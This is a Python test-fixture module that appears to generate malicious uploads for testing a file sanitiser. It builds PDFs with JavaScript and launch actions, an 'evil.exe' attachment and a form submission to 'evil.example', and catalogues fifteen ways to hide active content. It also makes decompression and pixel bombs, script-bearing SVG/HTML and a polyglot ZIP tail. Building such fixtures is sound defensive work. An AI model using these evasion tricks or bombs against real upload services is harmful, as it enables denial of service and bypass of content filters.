"""Ordinary and malicious files to upload."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
from PIL import Image

SECRET = b"52 Secret Lane"
_GPS, _COMMENT, _ORIENTATION = 0x8825, 0x9286, 0x0112


def photo(kind: str = "JPEG", size: tuple[int, int] = (320, 200)) -> bytes:
    """Return an image with a location in its metadata, rotated by 90 degrees: upright, its height is `size[0]`."""
    pillow_heif.register_heif_opener()
    picture = Image.effect_noise(size, 40).convert("RGB")
    exif = Image.Exif()
    exif[_GPS] = {1: "N", 2: (39.0, 44.0, 21.0), 3: "W", 4: (104.0, 59.0, 25.0)}
    exif[_ORIENTATION] = 6
    exif[0x010E] = SECRET.decode()
    created = io.BytesIO()
    picture.save(created, kind, exif=exif)
    return created.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    """Return a PDF with one page."""
    created = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change is not None:
            change(document)
        document.save(created, **options)
    return created.getvalue()


def busy_pdf() -> bytes:
    """Return a PDF with a script, an attachment, a launch action and an author."""

    def change(document: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('EvilScript')")
        document.Root.OpenAction = document.make_indirect(script)
        document.attachments["evil.exe"] = b"MZ EvilAttachment"
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="EvilProgram")
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
        document.pages[0].AA = pikepdf.Dictionary(O=script)
        document.docinfo["/Author"] = SECRET.decode()

    return pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def _script(document: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('EvilScript')")


def _link(action: pikepdf.Object) -> pikepdf.Dictionary:
    kind: dict[str, Any] = {"Type": pikepdf.Name.Annot, "Subtype": pikepdf.Name.Link, "Rect": [0, 0, 9, 9]}
    return pikepdf.Dictionary(**kind, A=action)


def _go_to(**more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), **more)


def _attached(document: pikepdf.Pdf) -> pikepdf.Dictionary:
    file = pikepdf.Stream(document, b"MZ EvilProgram", Type=pikepdf.Name.EmbeddedFile)
    return pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="evil.exe", EF=pikepdf.Dictionary(F=file))


def _form(document: pikepdf.Pdf, **more: Any) -> None:
    form = pikepdf.Stream(
        document, b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 1, 1], **more
    )
    document.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=document.make_indirect(form)))


def _annotate(document: pikepdf.Pdf, *annotations: pikepdf.Object) -> None:
    document.pages[0].Annots = pikepdf.Array(list(annotations))


def nested(depth: int, inside: pikepdf.Object) -> pikepdf.Object:
    """Return a value inside dictionaries in arrays."""
    for _ in range(depth):
        inside = pikepdf.Array([pikepdf.Dictionary(X=inside)])
    return inside


# Where active content hides, by what it is.
HIDDEN_CONTENT: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "an action of a direct annotation": lambda d: _annotate(d, _link(_script(d))),
    "a script after a jump": lambda d: _annotate(d, _link(_go_to(Next=_script(d)))),
    "a script after a jump, in a list": lambda d: _annotate(
        d, _link(_go_to(Next=pikepdf.Array([_go_to(), _script(d)])))
    ),
    "an address that is a script": lambda d: _annotate(
        d, _link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="JavaScript:EvilScript()"))
    ),
    "a form that is sent": lambda d: _annotate(
        d, _link(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/EvilScript"))
    ),
    "another file that opens": lambda d: _annotate(
        d, _link(pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="EvilProgram.pdf", D=pikepdf.Array([0])))
    ),
    "actions of a stream": lambda d: _form(d, AA=pikepdf.Dictionary(O=_script(d))),
    "metadata of a stream": lambda d: _form(
        d, Metadata=d.make_indirect(pikepdf.Stream(d, b"<x>EvilScript</x>", Type=pikepdf.Name.Metadata))
    ),
    "a field below a field": lambda d: d.Root.__setitem__(
        "/AcroForm",
        pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Dictionary(T="a", Kids=pikepdf.Array([_link(_script(d))]))])),
    ),
    "an outline": lambda d: d.Root.__setitem__(
        "/Outlines", pikepdf.Dictionary(First=pikepdf.Dictionary(Title="a", A=_script(d)), Count=1)
    ),
    "a file of an annotation": lambda d: _annotate(
        d, pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=_attached(d))
    ),
    "a file of a page": lambda d: d.pages[0].__setitem__("/AF", pikepdf.Array([_attached(d)])),
    "a file in a tree of names": lambda d: d.Root.__setitem__(
        "/Names",
        pikepdf.Dictionary(
            Dests=pikepdf.Dictionary(Kids=pikepdf.Array([pikepdf.Dictionary(Names=["a", _attached(d)])]))
        ),
    ),
    "a script in a deep array": lambda d: d.Root.__setitem__("/Extra", nested(20, _script(d))),
    "a name with an escape": lambda d: d.Root.__setitem__(
        "/Extra", pikepdf.Object.parse(b"[<< /S /J#61vaScript /J#53 (EvilScript) >>]")
    ),
}


def hidden_content(name: str) -> bytes:
    """Return a PDF with active content where HIDDEN_CONTENT says."""
    return pdf(HIDDEN_CONTENT[name], object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)


def pdf_bomb() -> bytes:
    """Return a small PDF with a stream that decompresses to 500 MB."""

    def change(document: pikepdf.Pdf) -> None:
        compressor = zlib.compressobj(1)
        compressed = b"".join(compressor.compress(bytes(1_000_000)) for _ in range(500)) + compressor.flush()
        document.pages[0].Contents = pikepdf.Stream(document, compressed, Filter=pikepdf.Name.FlateDecode)

    return pdf(change)


def picture_bomb() -> bytes:
    """Return a small PNG with 50,000 by 50,000 pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
ZIP = b"PK\x03\x04" + bytes(60)
TAIL = b"\nPK\x03\x04<script>EvilTail</script>"
